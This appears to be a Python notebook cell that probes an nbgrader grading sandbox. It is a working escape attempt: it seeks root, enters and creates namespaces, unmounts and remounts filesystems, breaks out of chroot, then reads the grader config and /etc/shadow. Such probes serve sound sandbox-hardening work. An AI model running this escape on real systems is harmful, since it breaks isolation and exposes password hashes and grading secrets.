# %% [markdown]
# # **machine: breaks out of its walls**
#
# Tries to become root, to make namespaces, to mount, to unmount what covers other things, to
# change its root folder, and then reads what it should not see.

# %%
import contextlib
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for become in (os.setuid, os.seteuid, os.setgid):
    with contextlib.suppress(OSError):
        become(0)
for flags in (0x10000000, 0x10020000, 0x00020000, 0x20000000, 0x40000000):
    libc.unshare(flags)  # CLONE_NEWUSER, with CLONE_NEWNS, NEWNS, NEWPID, NEWNET
for space in ("user", "mnt", "net", "pid", "ipc"):
    for pid in {1, os.getppid()} - {0}:
        with contextlib.suppress(OSError):
            libc.setns(os.open(f"/proc/{pid}/ns/{space}", os.O_RDONLY), 0)
with contextlib.suppress(OSError):
    if "@COURSE@" in Path("/proc/self/mountinfo").read_text():
        print("TAKEN sight of the course among the mounts")
if not os.path.exists("@COURSE@"):
    for place in (b"/tmp", b"/proc", b"/dev", b"/root", b"/"):
        libc.umount2(place, 2)
    with contextlib.suppress(OSError):
        Path("/tmp/root").mkdir(parents=True, exist_ok=True)
        libc.mount(b"/", b"/tmp/root", None, 0x5000, None)
        libc.mount(b"proc", b"/tmp/root", b"proc", 0, None)
        os.chroot("/tmp/root")
for _ in range(20):
    with contextlib.suppress(OSError):
        os.chdir("..")
with contextlib.suppress(OSError):
    os.chroot(".")
for root in ("", "/proc/1/root", "/oldroot", "/newroot", f"/proc/{os.getppid()}/root", "/tmp/root"):
    for path in ("@COURSE@/nbgrader_config.py", "/etc/shadow"):
        with contextlib.suppress(OSError):
            print("TAKEN", root + path if Path(root + path).read_bytes() else "")
